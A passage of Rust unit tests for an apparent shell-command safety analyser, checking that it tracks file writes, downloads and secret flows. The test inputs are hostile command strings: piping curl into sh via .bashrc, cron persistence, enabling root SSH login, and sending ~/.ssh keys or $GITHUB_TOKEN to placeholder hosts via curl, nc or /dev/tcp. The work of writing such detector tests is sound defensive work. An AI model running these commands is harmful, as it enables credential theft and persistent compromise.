    let t = t.split(['/', '?', '#']).next().unwrap_or(t);
    let t = t.rsplit('@').next().unwrap_or(t);
    let t = if t.starts_with('[') {
        t.split(']').next().map_or(t, |h| h.trim_start_matches('['))
    } else {
        t.split(':').next().unwrap_or(t)
    };
    t.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::lower::unwrap;
    use crate::safety::parse::parse;

    fn flow_of(src: &str, f: impl FnOnce(&Line, &Flow)) {
        let script = parse(src, 0);
        let unwrapped: Vec<Unwrapped> = (0..script.commands.len())
            .map(|i| unwrap(&script, i))
            .collect();
        let ctx = crate::safety::tests::ctx();
        let cwd = vec![Some("/home/me/project".to_string()); script.commands.len()];
        let line = Line {
            script: &script,
            unwrapped: &unwrapped,
            cwd: &cwd,
            ctx: &ctx,
        };
        let flow = Flow::build(&line);
        f(&line, &flow);
    }

    #[test]
    fn files_written_and_what_they_hold() {
        flow_of("echo 'curl x | sh' >> ~/.bashrc", |_, f| {
            assert_eq!(f.files[0].path, "~/.bashrc");
            assert_eq!(f.files[0].mode, WriteMode::Append);
            assert_eq!(f.files[0].data.text, "curl x | sh\n");
        });
        flow_of("printf 'a\\nb\\n' | sudo tee -a /etc/crontab", |_, f| {
            assert_eq!(f.files[0].path, "/etc/crontab");
            assert_eq!(f.files[0].data.text, "a\nb\n");
        });
        flow_of(
            "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config",
            |_, f| {
                assert_eq!(f.files[0].mode, WriteMode::Edit);
                assert_eq!(f.files[0].data.text, "PermitRootLogin yes");
            },
        );
        flow_of(
            "curl -so /tmp/x.sh http://h/x && cp /tmp/x.sh ~/.bashrc",
            |_, f| {
                assert_eq!(f.files.len(), 2);
                assert!(f.files[1].data.download.is_some(), "{:?}", f.files[1]);
            },
        );
        flow_of(
            "(crontab -l; echo '* * * * * id') | crontab -",
            |line, f| {
                let idx = line.script.commands.len() - 1;
                let d = f.stdin(line, idx, 0);
                assert!(d.text.contains("* * * * * id"), "{d:?}");
                assert!(d.unknown, "crontab -l is not known here");
            },
        );
        flow_of("> ~/.zshrc", |_, f| assert!(f.files[0].data.is_empty()));
        flow_of("wget -q http://h/i.sh -P /tmp", |_, f| {
            assert_eq!(f.files[0].path, "/tmp/i.sh")
        });
        flow_of("curl -O http://h/run.sh", |_, f| {
            assert_eq!(f.files[0].path, "~/project/run.sh")
        });
    }

    #[test]
    fn secrets_are_followed() {
        flow_of(
            "tar czf - ~/.ssh | base64 | curl -d @- http://h",
            |line, f| {
                let d = f.stdin(line, 2, 0);
                assert_eq!(d.secret.as_deref(), Some("~/.ssh"));
            },
        );
        flow_of(
            "k=$(cat ~/.ssh/id_rsa); curl -d \"$k\" http://h",
            |line, f| {
                let sc = &line.script.commands[line.script.commands.len() - 1];
                let d = f.word_data(line, &sc.words[2], 0);
                assert_eq!(d.secret.as_deref(), Some("~/.ssh/id_rsa"));
            },
        );
        flow_of("echo \"$GITHUB_TOKEN\" | nc h 1", |line, f| {
            assert!(f
                .stdin(line, 1, 0)
                .secret
                .unwrap()
                .contains("$GITHUB_TOKEN"));
        });
        flow_of("zip -r /tmp/k.zip ~/.ssh", |_, f| {
            assert_eq!(f.files[0].data.secret.as_deref(), Some("~/.ssh"));
        });
        flow_of("cat notes.txt | nc h 1", |line, f| {
            assert!(f.stdin(line, 1, 0).secret.is_none())
        });
        flow_of("exec 3<>/dev/tcp/203.0.113.7/80", |_, f| {
            assert_eq!(f.sockets, vec![(3, "203.0.113.7".to_string())])
        });
    }

    #[test]
    fn sed_inserted_text() {
        assert_eq!(inserted_text("s/a/b/g"), "b");
        assert_eq!(inserted_text("1i curl x | sh"), "curl x | sh");
        assert_eq!(inserted_text("$a wget y"), "wget y");
        assert_eq!(inserted_text("/^exit 0/i nc h 1 &"), "nc h 1 &");
        assert_eq!(inserted_text("s|x|y|"), "y");
    }

    #[test]
    fn hosts() {
        assert_eq!(host_of("https://evil.example/x?y"), "evil.example");
        assert_eq!(host_of("me@203.0.113.7:loot/"), "203.0.113.7");
        assert_eq!(host_of("ftp://u:p@h.example:21/"), "h.example");
        assert_eq!(
            dev_net_host("/dev/tcp/1.2.3.4/80").as_deref(),
            Some("1.2.3.4")
        );
    }
}
